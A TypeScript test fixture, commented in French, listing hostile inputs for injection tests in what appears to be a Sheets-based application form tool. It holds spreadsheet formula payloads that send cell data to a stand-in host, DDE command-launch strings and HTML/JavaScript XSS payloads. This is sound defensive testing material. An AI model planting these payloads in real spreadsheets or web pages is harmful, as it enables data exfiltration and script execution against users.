/**
 * Hostile texts for the injection tests: what an applicant or a user may type in a form answer,
 * a sidebar field or a cell. Each must come out as the text typed: never a formula in a sheet,
 * never markup or script in a sidebar.
 */

export interface HostileString {
  /** Short name for test titles. */
  readonly name: string;
  readonly text: string;
}

/** 60 000 characters: more than a Sheets cell holds (50 000), starting with a formula. */
const LONG = (() => {
  const head = '=HYPERLINK("https://exemple.invalid/?d="&A1;"';
  const tail = '")';
  return head + "x".repeat(60_000 - head.length - tail.length) + tail;
})();

/** Formula and spreadsheet payloads (CSV/formula injection, DDE, exfiltration, hidden signs). */
export const FORMULA_PAYLOADS: readonly HostileString[] = [
  // Formule la plus simple : vérifie qu'elle n'est pas calculée.
  { name: "formule simple", text: "=1+1" },
  // Lien cliquable qui envoie le contenu d'une cellule à un site tiers.
  { name: "HYPERLINK", text: '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")' },
  // Exfiltration silencieuse des données de la feuille par une requête IMPORTXML.
  { name: "IMPORTXML", text: '=IMPORTXML(CONCAT("https://exemple.invalid/?d=";B2);"//a")' },
  // Exfiltration par IMPORTDATA.
  { name: "IMPORTDATA", text: '=IMPORTDATA("https://exemple.invalid/"&C2&"/"&D2)' },
  // Pixel espion : l'image se charge dès l'ouverture de la feuille.
  { name: "IMAGE", text: '=IMAGE("https://exemple.invalid/pixel.png?"&E2)' },
  // Lecture d'un autre classeur (IMPORTRANGE) derrière un @.
  { name: "@IMPORTRANGE", text: '@IMPORTRANGE("https://docs.google.com/spreadsheets/d/x";"A1:Z99")' },
  // Charge utile DDE classique (Excel après export) : lance la calculatrice.
  { name: "DDE =cmd", text: "=cmd|' /C calc'!A0" },
  // DDE précédée d'un @ et d'un calcul, pour passer les filtres qui ne regardent que « = ».
  { name: "DDE @SUM", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  // DDE précédée d'un +.
  { name: "DDE +cmd", text: "+cmd|' /C notepad'!A0" },
  // DDE précédée d'un - et d'un calcul.
  { name: "DDE -2+3", text: "-2+3+cmd|' /C calc'!A0" },
  // Nombre négatif saisi comme texte : doit rester le texte « -5 ».
  { name: "-5 en texte", text: "-5" },
  // Numéro de téléphone international : le + en tête le ferait lire comme formule.
  { name: "téléphone +33", text: "+33 6 12 34 56 78" },
  // Tabulation en tête (injection CSV) avant une formule.
  { name: "tabulation", text: "\t=1+1" },
  // Retour chariot en tête (injection CSV) avant une formule.
  { name: "retour chariot", text: "\r=1+1" },
  // Saut de ligne en tête avant une formule.
  { name: "saut de ligne", text: '\n=HYPERLINK("https://exemple.invalid")' },
  // Espaces avant le signe égal.
  { name: "espaces avant =", text: "   =1+1" },
  // Signe égal pleine chasse (claviers asiatiques).
  { name: "＝ pleine chasse", text: "＝1+1" },
  // Caractère de contrôle bidirectionnel U+202E (inversion droite-à-gauche) devant la formule.
  { name: "RTL U+202E", text: "\u202E=1+1" },
  // Espace de largeur nulle devant une formule d'exfiltration.
  { name: "largeur nulle", text: '\u200B=IMPORTXML("https://exemple.invalid";"//a")' },
  // Indicateur d'ordre des octets (BOM) devant la formule.
  { name: "BOM", text: "\uFEFF=1+1" },
  // Apostrophe en tête : Sheets l'avalerait et le texte changerait.
  { name: "apostrophe", text: "'=1+1" },
  // Lecture d'une autre feuille du classeur (données des candidats).
  { name: "QUERY", text: '=QUERY(Candidatures!A:Z;"select *")' },
  // Fonction en français (classeur fr_FR).
  { name: "SI", text: '=SI(1=1;"oui";"non")' },
  // Référence indirecte à une cellule.
  { name: "INDIRECT", text: '=INDIRECT("Candidatures!A1")' },
  // Plusieurs lignes, chacune une formule.
  { name: "multiligne", text: "=1+1\n=2+2\n@3" },
  // Tiret seul, souvent saisi pour « rien ».
  { name: "tiret seul", text: "-" },
  // Mention @ en tête.
  { name: "@mention", text: "@asso" },
  // Texte très long (60 000 caractères) commençant par une formule : plus qu'une cellule.
  { name: "60 000 caractères", text: LONG },
];

/**
 * HTML and JavaScript payloads for the sidebars. Those that would run set `window.__pwned`
 * (or open a dialog), so a test can tell.
 */
export const HTML_PAYLOADS: readonly HostileString[] = [
  // Balise script classique.
  { name: "script alert", text: "<script>alert(1)</script>" },
  // Balise script qui pose un drapeau.
  { name: "script drapeau", text: "<script>window.__pwned=1</script>" },
  // Image cassée dont le gestionnaire d'erreur s'exécute.
  { name: "img onerror", text: "<img src=x onerror=alert(1)>" },
  // Même chose avec drapeau.
  { name: "img onerror drapeau", text: '<img src=x onerror="window.__pwned=2">' },
  // URL javascript: (dans un lien ou un attribut href).
  { name: "javascript:", text: "javascript:alert(1)" },
  // Sortie d'attribut puis SVG avec onload.
  { name: "svg onload", text: '"><svg onload=window.__pwned=3>' },
  // Sortie d'attribut entre apostrophes.
  { name: "onmouseover", text: "' onmouseover='window.__pwned=4" },
  // Sortie d'une zone de texte puis script.
  { name: "fin de textarea", text: "</textarea><script>window.__pwned=5</script>" },
  // Sortie d'une option de liste déroulante.
  { name: "fin d'option", text: "</option></select><img src=x onerror=window.__pwned=6>" },
  // Iframe avec srcdoc.
  { name: "iframe srcdoc", text: '<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>' },
  // Balise de modèle HtmlService (scriptlet) : ne doit jamais être interprétée.
  { name: "scriptlet", text: "<?!= '<img src=x onerror=window.__pwned=8>' ?>" },
  // Entités HTML : doivent s'afficher telles quelles.
  { name: "entités", text: "&lt;b&gt;gras&lt;/b&gt; &amp; &#60;i&#62;" },
  // Détails avec ontoggle (s'exécute sans clic).
  { name: "details ontoggle", text: "<details open ontoggle=window.__pwned=9>" },
  // Gabarit JavaScript (si le texte finissait dans un gabarit évalué).
  { name: "gabarit", text: "\u0024{window.__pwned=10}" },
];

/** Every hostile text, formulas first. */
export const HOSTILE_STRINGS: readonly HostileString[] = [...FORMULA_PAYLOADS, ...HTML_PAYLOADS];
